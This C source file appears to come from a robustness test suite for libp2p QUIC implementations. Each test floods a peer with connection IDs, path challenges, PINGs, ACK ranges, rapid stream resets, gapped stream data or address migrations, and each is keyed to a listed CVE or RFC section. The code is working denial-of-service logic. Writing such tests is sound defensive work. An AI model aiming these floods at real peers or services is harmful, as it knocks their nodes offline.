/* QC, MS, SW and PG rows of more than a few packets in connections that are made: frames, streams and
 * addresses without end. */
#include "quic.h"
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

static const char PING[] = "/ipfs/ping/1.0.0";
enum { FRAMES = 1150 };

/* ---- frames without end ---- */

/* The peer acknowledges nothing, so that whatever is to be said again has to be kept. */
static verdict qc05_flood(evil *e) {
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  q->mute = true;
  for (uint64_t i = 2; i < e->scale && !q->over; i += 24) {
    uint8_t frames[FRAMES];
    p2p__wr w = p2p__wr_of(frames, sizeof frames);
    for (uint64_t k = i; k < i + 24; k++) quic_put_new_id(&w, k, k, (uint8_t)k);
    quic_say(q, QUIC_APP, &w);
    quic_wait(q, evil_now());
  }
  return quic_must_end(q);
}

/* As fast as they give ids to us they are given back. */
static verdict qc05_retire(evil *e) {
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  (void)quic_lives(q);
  q->mute = true;
  for (uint64_t seq = 1; seq < e->scale / 4 && !q->over; seq++) {
    uint8_t frames[32];
    p2p__wr w = p2p__wr_of(frames, sizeof frames);
    p2p_time end = evil_now() + P2P_SECOND / 2;
    while (q->top_seq < seq && quic_wait(q, end)) continue;
    if (q->top_seq < seq) break;
    p2p__wr_u8(&w, 0x19);
    quic_put(&w, seq);
    p2p__wr_bytes_in(&w, p2p__bytes("\0\0", 2));
    quic_say(q, QUIC_APP, &w);
  }
  return quic_may_do_anything(q);
}

/* One packet again and again, `n` times; nothing of the answers is acknowledged. */
static verdict again(quic *q, const p2p__wr *frames, uint64_t n) {
  q->mute = true;
  for (uint64_t i = 0; i < n && !q->over; i++) {
    quic_say(q, QUIC_APP, frames);
    if (i % 8 == 0) quic_wait(q, evil_now());
  }
  return quic_may_do_anything(q);
}

static verdict qc06(evil *e) {
  uint8_t frames[FRAMES];
  p2p__wr w = p2p__wr_of(frames, sizeof frames);
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  while (w.len + 9 < sizeof frames) {
    p2p__wr_u8(&w, 0x1a);
    p2p__wr_be64(&w, w.len);
  }
  return again(q, &w, e->scale / 4);
}

/* Acknowledgements of the same packets in as many ranges as fit: each is to be looked at. */
static verdict qc15_flood(evil *e) {
  uint8_t frames[FRAMES];
  p2p__wr w = p2p__wr_of(frames, sizeof frames);
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  (void)quic_lives(q);
  while (w.len + 40 < sizeof frames) quic_put_ack(&q->space[QUIC_APP], &w);
  return again(q, &w, e->scale / 4);
}

static verdict qc14_pings(evil *e) {
  uint8_t frames[FRAMES];
  p2p__wr w = p2p__wr_of(frames, sizeof frames);
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  while (w.len < sizeof frames) p2p__wr_u8(&w, 0x01);
  return again(q, &w, e->scale);
}

/* One byte of every two in a stream's window, the last first. */
static verdict qc10(evil *e) {
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  uint64_t at = q->stream_window < 16 * e->scale ? q->stream_window : 16 * e->scale;
  for (uint64_t n = 0; at > 2 && !q->over; n++) {
    uint8_t frames[FRAMES];
    p2p__wr w = p2p__wr_of(frames, sizeof frames);
    for (; at > 2 && w.len + 16 < sizeof frames; at -= 2)
      quic_put_stream(&w, quic_sid(q, 0), at - 1, p2p__bytes("x", 1), false);
    quic_say(q, QUIC_APP, &w);
    if (n % 8 == 0) quic_wait(q, evil_now());
  }
  return quic_may_do_anything(q);
}

/* ---- streams ---- */

/* Opened and ended in one packet, as fast as more are allowed. */
static verdict rapid(evil *e, uint8_t type) {
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  for (uint64_t i = 0; i < e->scale && !q->over; i++) {
    uint8_t frames[64];
    p2p__wr w = p2p__wr_of(frames, sizeof frames);
    p2p_time end = evil_now() + e->brief;
    while (i >= q->streams_allowed && quic_wait(q, end)) continue;
    if (i >= q->streams_allowed) break;
    memset(q->stream, 0, sizeof q->stream);
    quic_put_stream(&w, quic_sid(q, i), 0, p2p__bytes("\x13/multi", 7), type == 0x05);
    p2p__wr_u8(&w, type);
    quic_put(&w, quic_sid(q, i));
    quic_put(&w, 7);
    if (type == 0x04) quic_put(&w, 7);
    quic_say(q, QUIC_APP, &w);
    if (i % 16 == 0) quic_wait(q, evil_now());
  }
  return quic_may_do_anything(q);
}

static verdict qc30_reset(evil *e) { return rapid(e, 0x04); }
static verdict qc30_stop(evil *e) { return rapid(e, 0x05); }

/* Streams that it gave up: whoever says nothing itself need not reset its own side. */
static uint64_t given_up(const quic *q) { return q->resets > q->stops ? q->resets : q->stops; }

/* Streams that stop in their first line: each has a deadline, or there are few. */
static verdict ms01(evil *e) {
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  uint64_t many = q->streams_allowed < 100 ? q->streams_allowed : 100;
  for (uint64_t i = 0; i < many; i++) {
    uint8_t frames[64];
    p2p__wr w = p2p__wr_of(frames, sizeof frames);
    quic_put_stream(&w, quic_sid(q, i), 0, p2p__bytes("\x13/multi", 7), false);
    quic_say(q, QUIC_APP, &w);
    quic_wait(q, evil_now());
  }
  p2p_time end = evil_now() + e->patience;
  while (given_up(q) < many && quic_wait(q, end)) continue;
  bool ended = q->over || given_up(q) >= many;
  quic_free(q);
  return ended ? EVIL_SURVIVED : EVIL_LATE;
}

/* Lines that cannot be, each in a stream of its own: that stream ends, the connection goes on. */
static verdict ms02(evil *e) {
  static const struct {
    const char *bytes;
    size_t len;
  } lines[] = {
    { "\xff\xff\xff\xff\xff\xff\xff\xff\x7f/multi", 15 }, /* 2^63 bytes */
    { "\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80\x80", 12 },
    { "GET / HTTP/1.1\r\nHost: a.host.whose.name.is.so.long.that.the.line.would.be.over\r\n\r\n",
      79 },
    { "\x13/multistream/1.0.0x", 20 }, /* no newline */
  };
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  for (size_t i = 0; i < P2P_COUNT(lines); i++) {
    uint8_t frames[128];
    p2p__wr w = p2p__wr_of(frames, sizeof frames);
    quic_put_stream(&w, quic_sid(q, i), 0, p2p__bytes(lines[i].bytes, lines[i].len), false);
    quic_say(q, QUIC_APP, &w);
  }
  p2p_time end = evil_now() + e->brief;
  while (given_up(q) < P2P_COUNT(lines) && quic_wait(q, end)) continue;
  bool ended = q->over || given_up(q) >= P2P_COUNT(lines);
  if (ended && !q->over) return quic_must_live(q);
  quic_free(q);
  return ended ? EVIL_SURVIVED : EVIL_TOLERATED;
}

/* Connections that are gone without a word at every stage, or with one. That some are refused, when so many
 * of one address are half open, is nobody's loss but ours. */
static verdict sw02(evil *e) {
  enum { STAGES = 6, ROUNDS = 30 };
  unsigned met = 0;
  for (unsigned i = 0; i < ROUNDS * STAGES; i++) {
    unsigned stage = i % STAGES;
    quic *q = stage < 2 ? quic_knocker(e) : quic_session(e);
    if (!q) continue;
    met += q->confirmed;
    if (stage == 1) {
      quic_knock(q);
      quic_wait(q, evil_now() + P2P_SECOND / 20);
    }
    if (stage >= 3) (void)quic_open(q, quic_sid(q, 0), PING);
    if (stage == 4) quic_keys_update(q);
    q->vanish = stage != 5;
    quic_free(q);
  }
  return met ? EVIL_SURVIVED : EVIL_BROKEN;
}

/* Echoes that find no window: they stop to read us, and nothing more is kept. */
static void put_no_credit(const quic *q, p2p__wr *w) {
  quic_param_bytes(w, 15, p2p__bytes(q->ours.b, q->ours.len));
  quic_param(w, 4, 4096);
  quic_param(w, 5, 4096);
  quic_param(w, 6, 4096);
  quic_param(w, 8, 16);
}

static verdict pg01(evil *e) {
  static const quic_plan plan = { .params = put_no_credit };
  static const uint8_t body[1024];
  quic *q = quic_session_as(e, &plan);
  quic_stream *s = q ? quic_open(q, quic_sid(q, 0), PING) : NULL;
  if (!s) {
    quic_free(q);
    return EVIL_BROKEN;
  }
  while (!q->over && s->sent + sizeof body <= q->stream_window && s->sent < 16 * e->scale &&
         !s->stopped)
    if (quic_stream_put(q, s, body, sizeof body, false)) quic_wait(q, evil_now());
  return quic_may_do_anything(q);
}

/* ---- addresses that change ---- */

/* Once, as behind a NAT that forgot. Who said that we may not move need not follow. */
static verdict qc31_move(evil *e) {
  quic *q = quic_session(e);
  if (!q || !quic_lives(q)) {
    quic_free(q);
    return EVIL_BROKEN;
  }
  if (q->stays) {
    quic_free(q);
    return EVIL_NA;
  }
  uint8_t frames[128];
  p2p__wr w = p2p__wr_of(frames, sizeof frames);
  quic_put_new_id(&w, 1, 0, 1); /* what it is to call us there */
  quic_say(q, QUIC_APP, &w);
  (void)quic_lives(q);
  quic_rebind(q);
  return quic_must_live(q);
}

static verdict qc31_moves(evil *e) {
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  for (int i = 0; i < 100 && !q->over; i++) {
    quic_rebind(q);
    quic_ping(q, 0);
    quic_wait(q, evil_now() + P2P_MS);
  }
  return quic_may_do_anything(q);
}

/* … and are not there when they are asked: who came from the old one again is still who it was. */
static verdict qc08_probe(evil *e) {
  quic *q = quic_session(e);
  if (!q || !quic_lives(q)) {
    quic_free(q);
    return EVIL_BROKEN;
  }
  int own = q->fd;
  q->fd = socket(q->to.ss_family, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  if (q->fd < 0) abort();
  for (int i = 0; i < 5; i++) {
    quic_ping(q, QUIC_LEAST);
  }
  q->no_path = true;
  (void)quic_wait(q, evil_now() + P2P_SECOND / 10);
  close(q->fd);
  q->fd = own;
  q->no_path = false;
  return quic_must_live(q);
}

/* ---- a server's tickets ---- */
static verdict qc08_tickets(evil *e) {
  uint8_t frames[FRAMES];
  quic *q = quic_session(e);
  if (!q) return EVIL_BROKEN;
  for (uint64_t at = 0; at < 512 * e->scale && !q->over; at += 1024) {
    static const uint8_t ticket[1024] = { 4, 0, 3, 0xfc };
    p2p__wr w = p2p__wr_of(frames, sizeof frames);
    quic_put_crypto(&w, at, p2p__bytes(ticket, sizeof ticket));
    quic_say(q, QUIC_APP, &w);
    quic_wait(q, evil_now());
  }
  return quic_may_do_anything(q);
}

#define RFC "RFC 9000"
enum { BOTH = ROW_DIAL | ROW_SERVE };
static const row rows[] = {
  { "QC-05.flood", "quic", "CVE-2024-22189", "new connection ids without end, none acknowledged",
    BOTH, qc05_flood },
  { "QC-05.retire", "quic", "CVE-2024-22189", "gives back their ids as fast as they come", BOTH,
    qc05_retire },
  { "QC-06.flood", "quic", "CVE-2023-49295", "path challenges without end", BOTH, qc06 },
  { "QC-08.probe", "quic", "CVE-2025-29785", "a path that does not answer, then the old one",
    ROW_DIAL, qc08_probe },
  { "QC-08.tickets", "quic", "RFC 8446, section 4.6.1", "tickets without end", ROW_SERVE,
    qc08_tickets },
  { "QC-10.gaps", "quic", "CVE-2026-25800", "every other byte of a window", BOTH, qc10 },
  { "QC-14.pings", "quic", "CVE-2019-9512", "a thousand PINGs in each packet", BOTH, qc14_pings },
  { "QC-15.flood", "quic", "RFC 9000, section 13.2", "acknowledgements without end", BOTH,
    qc15_flood },
  { "QC-30.reset", "quic", "CVE-2023-44487", "streams opened and reset as fast as it goes", BOTH,
    qc30_reset },
  { "QC-30.stop", "quic", "CVE-2023-44487", "streams opened and stopped as fast as it goes", BOTH,
    qc30_stop },
  { "QC-31.move", "quic", RFC ", section 9", "another address: allowed", ROW_DIAL, qc31_move },
  { "QC-31.moves", "quic", RFC ", section 9", "a hundred addresses, one after the other", ROW_DIAL,
    qc31_moves },
  { "MS-01.quic", "quic", "CVE-2022-23492", "100 streams that stop in their first line", ROW_DIAL,
    ms01 },
  { "MS-02.quic", "quic", "multistream-select; rust, go", "lines that are none, in streams",
    ROW_DIAL, ms02 },
  { "SW-02.quic", "quic", "py 3a79b343", "180 connections gone at every stage", ROW_DIAL, sw02 },
  { "PG-01.quic", "quic", "js#2673, litep2p#551", "bytes without end, echoes find no window",
    ROW_DIAL, pg01 },
};
const family evil_quic_floods = { rows, P2P_COUNT(rows), true };
